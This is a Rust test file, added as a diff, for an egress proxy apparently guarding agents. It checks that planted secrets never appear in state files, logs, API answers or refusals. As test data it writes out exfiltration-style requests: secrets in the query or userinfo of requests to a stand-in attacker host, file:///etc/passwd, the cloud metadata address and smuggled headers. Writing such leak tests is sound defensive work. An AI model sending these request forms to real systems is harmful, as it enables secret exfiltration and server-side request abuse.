@@ -1,0 +1,298 @@
+//! Secrets that pass through are nowhere afterwards: not in the state folder, not in what the
+//! process prints at its most talkative, not in what it answers.
+
+use crate::stage::{EVIL, PLAIN, Stage, session, through_tunnel, tunnel_host};
+use backstop_testkit::message::Kind;
+use backstop_testkit::upstream::Answer;
+use backstop_testkit::{Backstop, World, backstop, client};
+use base64::Engine as _;
+use serde_json::json;
+use std::io::Write as _;
+use std::path::Path;
+
+/// What is planted, by where. Each is found by its exact bytes wherever it turns up.
+#[derive(Default)]
+struct Planted {
+    secrets: Vec<(&'static str, String)>,
+}
+
+impl Planted {
+    /// A new secret for that place.
+    fn plant(&mut self, place: &'static str) -> String {
+        let secret = format!("s3cr3t{:04}Zq{}", self.secrets.len(), place.len());
+        self.secrets.push((place, secret.clone()));
+        secret
+    }
+
+    fn keep(&mut self, place: &'static str, secret: &str) {
+        self.secrets.push((place, secret.to_owned()));
+    }
+
+    /// None of them, nor its Base64, is in there.
+    #[track_caller]
+    fn is_not_in(&self, what: &str, bytes: &[u8]) {
+        for (place, secret) in &self.secrets {
+            let encoded = base64::engine::general_purpose::STANDARD.encode(secret);
+            // Without the end, which depends on what follows.
+            let encoded = encoded.trim_end_matches('=');
+            let encoded = &encoded[..encoded.len() - encoded.len() % 4];
+            for needle in [secret.as_str(), encoded] {
+                if let Some(at) = find(bytes, needle.as_bytes()) {
+                    let (from, to) = (at.saturating_sub(200), (at + 100).min(bytes.len()));
+                    panic!(
+                        "the secret of `{place}` is in {what}: …{}…",
+                        String::from_utf8_lossy(&bytes[from..to])
+                    );
+                }
+            }
+        }
+    }
+}
+
+fn find(bytes: &[u8], needle: &[u8]) -> Option<usize> {
+    let first = needle[0];
+    let mut from = 0;
+    while let Some(at) = bytes[from..].iter().position(|byte| *byte == first) {
+        if bytes[from + at..].starts_with(needle) {
+            return Some(from + at);
+        }
+        from += at + 1;
+    }
+    None
+}
+
+/// Every file below, whole.
+fn files(folder: &Path, each: &mut impl FnMut(&Path, &[u8])) {
+    for entry in std::fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            files(&path, each);
+        } else if path.file_name().is_some_and(|name| name != "ledger.reserve") {
+            each(&path, &std::fs::read(&path).unwrap());
+        }
+    }
+}
+
+/// Sends the bytes to the proxy and gives its answer.
+#[track_caller]
+fn send(gateway: &Backstop, bytes: &[u8]) -> Vec<u8> {
+    let mut stream = client::connect(gateway.proxy());
+    stream.write_all(bytes).unwrap();
+    let reply = client::read_reply(&mut stream, Kind::Reply);
+    reply.unwrap_or_else(|fault| panic!("{fault}: {}", String::from_utf8_lossy(bytes))).raw
+}
+
+#[test]
+fn planted_secrets_are_nowhere_afterwards() {
+    World::run(|world| {
+        let stage = Stage::new(world);
+        let mut planted = Planted::default();
+        let configured = planted.plant("password of an upstream proxy");
+        let mut setup = stage.setup(json!({ "log": { "level": "trace" } }));
+        // Nothing goes there: all of the world is excepted.
+        let upstream = format!("http://user:{configured}@93.184.9.9:3128");
+        setup.environment.push(("BACKSTOP_NETWORK_UPSTREAM_PROXY".into(), upstream));
+        setup.environment.push(("BACKSTOP_NETWORK_NO_PROXY".into(), ".example".into()));
+        let gateway = Backstop::start(world, setup);
+        let session = session(&gateway);
+        planted.keep("agent token", session.token());
+        let mut refusals = plant_in_requests(&stage, &gateway, &session, &mut planted);
+        refusals.extend(plant_in_the_api(&gateway, &mut planted));
+
+        // What was asked for is there, so that looking finds something.
+        let mut shown = false;
+        let state = gateway.state();
+        let mut look = |path: &Path, bytes: &[u8]| {
+            planted.is_not_in(&path.display().to_string(), bytes);
+            shown |= find(bytes, b"/planted/path").is_some();
+        };
+        files(&state, &mut look);
+        assert!(shown);
+        for path in [
+            "/metrics",
+            "/v1/events?after=0&follow=false",
+            "/v1/alerts",
+            "/v1/sessions?all=true",
+            "/v1/tokens?all=true",
+            "/v1/quarantines",
+            "/v1/holds",
+            "/v1/grants",
+            "/v1/policy",
+            "/openapi.json",
+        ] {
+            let reply = gateway.ask("GET", path, None);
+            assert_eq!(reply.status(), 200, "{path}: {}", reply.text());
+            planted.is_not_in(path, &reply.raw);
+        }
+        for refusal in &refusals {
+            planted.is_not_in("a refusal", refusal);
+        }
+        for arguments in [
+            ["ledger", "export"].as_slice(),
+            &["explain", "--last"],
+            &["sessions", "ls"],
+            &["tokens", "ls"],
+            &["alerts"],
+            &["config", "show"],
+        ] {
+            let ran = stage.cli(&state, arguments);
+            assert!(ran.code < 2, "{arguments:?}: {}", ran.err);
+            planted.is_not_in(&format!("{arguments:?}"), (ran.out + &ran.err).as_bytes());
+        }
+        let exit = gateway.stop();
+        assert!(exit.stderr.contains("DEBUG"), "it was talkative");
+        planted.is_not_in("standard output", exit.stdout.as_bytes());
+        planted.is_not_in("standard error", exit.stderr.as_bytes());
+        files(&state, &mut |path, bytes| planted.is_not_in(&path.display().to_string(), bytes));
+    });
+}
+
+/// Secrets wherever an agent can put one; gives the refusals.
+fn plant_in_requests(
+    stage: &Stage,
+    gateway: &Backstop,
+    session: &backstop::Session,
+    planted: &mut Planted,
+) -> Vec<Vec<u8>> {
+    let authorization = session.authorization();
+    planted.keep("Proxy-Authorization", authorization.trim_start_matches("Basic "));
+    let known = format!("proxy-authorization: {authorization}\r\nconnection: close\r\n");
+    let returned = planted.plant("answer's header and body");
+    stage.plain.answer(
+        "/planted/path/answer",
+        Answer::Reply {
+            status: 302,
+            headers: vec![
+                ("location".into(), format!("http://{EVIL}/?{returned}")),
+                ("set-cookie".into(), returned.clone()),
+            ],
+            body: returned.into(),
+        },
+    );
+
+    // Permitted: all of it reaches the upstream, and stays there alone.
+    let (query, header, cookie, body) = (
+        planted.plant("query"),
+        planted.plant("header value"),
+        planted.plant("cookie"),
+        planted.plant("body"),
+    );
+    let passed = |target: &str| {
+        format!(
+            "POST http://{PLAIN}/planted/path{target} HTTP/1.1\r\nhost: {PLAIN}\r\n{known}\
+             authorization: Bearer {header}\r\nx-{header}: {header}\r\ncookie: id={cookie}\r\n\
+             content-length: {}\r\n\r\n{body}",
+            body.len()
+        )
+    };
+    for target in [&format!("?q={query}"), "/answer"] {
+        let reply = send(gateway, passed(target).as_bytes());
+        assert!(find(&reply, b"backstop-receipt: rcp_").is_some());
+    }
+    let arrived = stage.plain.received();
+    assert_eq!(arrived.len(), 2);
+    for secret in [&query, &header, &cookie, &body] {
+        assert!(
+            find(&arrived[0].message.raw, secret.as_bytes()).is_some(),
+            "{secret} was passed on"
+        );
+    }
+    let inside = planted.plant("path inside a tunnel");
+    let path = format!("/{inside}");
+    through_tunnel(gateway.proxy(), &authorization, &tunnel_host(1), &path, &stage.ca.client())
+        .unwrap();
+    assert_eq!(stage.tls.requests(), 1);
+
+    // Refused by policy, by the parse, by framing: none of it gets further.
+    let mut refusals = Vec::new();
+    let mut refused = |place: &'static str, form: &str| {
+        let secret = planted.plant(place);
+        let head = form.replace("SECRET", &secret).replace("KNOWN", &known);
+        let reply = send(gateway, head.as_bytes());
+        let text = String::from_utf8_lossy(&reply).into_owned();
+        let status = text.split(' ').nth(1).and_then(|code| code.parse::<u16>().ok());
+        assert!(status.is_some_and(|status| (400..=505).contains(&status)), "{place}: {text}");
+        refusals.push(reply);
+    };
+    let host = format!("host: {EVIL}\r\n");
+    for (place, line) in [
+        ("refused query", format!("GET http://{EVIL}/a?k=SECRET HTTP/1.1")),
+        ("refused query without path", format!("GET http://{EVIL}?SECRET HTTP/1.1")),
+        ("fragment", format!("GET http://{EVIL}/a#SECRET HTTP/1.1")),
+        ("userinfo", format!("GET http://user:SECRET@{EVIL}/ HTTP/1.1")),
+        ("userinfo of an allowed host", format!("GET http://SECRET@{PLAIN}/ HTTP/1.1")),
+        ("two at signs", format!("GET http://a:SECRET@b@{EVIL}/ HTTP/1.1")),
+        ("userinfo in CONNECT", format!("CONNECT user:SECRET@{EVIL}:443 HTTP/1.1")),
+        ("query in CONNECT", format!("CONNECT {EVIL}:443?SECRET HTTP/1.1")),
+        ("query of file", "GET file:///etc/passwd?SECRET HTTP/1.1".to_owned()),
+        ("query of gopher", format!("GET gopher://{EVIL}/_?SECRET HTTP/1.1")),
+        ("userinfo of ftp", format!("GET ftp://user:SECRET@{EVIL}/ HTTP/1.1")),
+        ("userinfo of metadata", "GET http://SECRET@169.254.169.254/?SECRET HTTP/1.1".to_owned()),
+        ("userinfo of a port that is none", format!("GET http://u:SECRET@{EVIL}:99999/ HTTP/1.1")),
+        ("back-slash", format!("GET http://{EVIL}\\@SECRET/?SECRET HTTP/1.1")),
+        ("query for the proxy itself", "GET /?SECRET HTTP/1.1".to_owned()),
+        ("version", "GET http://x/ HTTP/SECRET".to_owned()),
+        ("white space in the query", format!("GET http://{EVIL}/? SECRET HTTP/1.1")),
+    ] {
+        refused(place, &format!("{line}\r\n{host}KNOWN\r\n"));
+    }
+    for (place, head) in [
+        ("header of a refused request", "x-key: SECRET\r\n"),
+        ("folded header", "x-key: a\r\n SECRET\r\n"),
+        ("header without a colon", "SECRET\r\n"),
+        ("header with a NUL", "x-key: SECRET\0\r\n"),
+        ("two lengths", "content-length: 1\r\ncontent-length: 2\r\nx-key: SECRET\r\n"),
+        ("bad length", "content-length: SECRET\r\n"),
+        ("bad coding", "transfer-encoding: SECRET\r\n"),
+    ] {
+        refused(place, &format!("GET http://{EVIL}/ HTTP/1.1\r\n{host}KNOWN{head}\r\n"));
+    }
+    refused(
+        "bad chunk",
+        &format!(
+            "POST http://{PLAIN}/ HTTP/1.1\r\nhost: {PLAIN}\r\nKNOWN\
+                  transfer-encoding: chunked\r\n\r\nSECRET\r\n"
+        ),
+    );
+    refused(
+        "body of a refused request",
+        &format!("POST http://{EVIL}/ HTTP/1.1\r\n{host}KNOWNcontent-length: 100\r\n\r\nSECRET"),
+    );
+    for (place, value) in [
+        ("unknown token", format!("Bearer bst_a_{}SECRET", "x".repeat(30))),
+        ("unreadable credential", "Bearer SECRET".to_owned()),
+        ("unknown scheme", "Digest username=\"SECRET\"".to_owned()),
+        ("bad Base64", "Basic !SECRET".to_owned()),
+    ] {
+        let head = format!("GET http://{PLAIN}/ HTTP/1.1\r\nhost: {PLAIN}\r\n");
+        refused(place, &format!("{head}proxy-authorization: {value}\r\nconnection: close\r\n\r\n"));
+    }
+    refusals
+}
+
+/// Secrets that people and programs give the API.
+fn plant_in_the_api(gateway: &Backstop, planted: &mut Planted) -> Vec<Vec<u8>> {
+    let mut answers = Vec::new();
+    let runtime = json!({ "kind": "runtime", "principal": "runner", "tenant": "research" });
+    let made = gateway.ask("POST", "/v1/tokens", Some(&runtime));
+    assert_eq!(made.status(), 201, "{}", made.text());
+    planted.keep("runtime token", made.json()["token"].as_str().unwrap());
+
+    let host = gateway.api().to_string();
+    let bearer = planted.plant("unknown token of the API");
+    let bearer = format!("Bearer bst_o_{bearer}");
+    let query = format!("/v1/sessions?token={}", planted.plant("query of the API"));
+    let path = format!("/v1/{}", planted.plant("path of the API"));
+    for target in ["/v1/sessions", &query, &path] {
+        let headers =
+            [("host", host.as_str()), ("authorization", &bearer), ("connection", "close")];
+        let reply = client::request(gateway.api(), "GET", target, &headers, b"");
+        assert!([401, 404].contains(&reply.status()), "{target}: {}", reply.text());
+        answers.push(reply.raw);
+    }
+    // An operator who asks about a URL gets it back with the answer; it is not kept.
+    let (user, key) = (planted.plant("userinfo to explain"), planted.plant("query to explain"));
+    let body = json!({ "target": format!("http://u:{user}@{EVIL}/?{key}"), "tenant": "research" });
+    assert_eq!(gateway.ask("POST", "/v1/explain", Some(&body)).status(), 200);
+    answers
+}
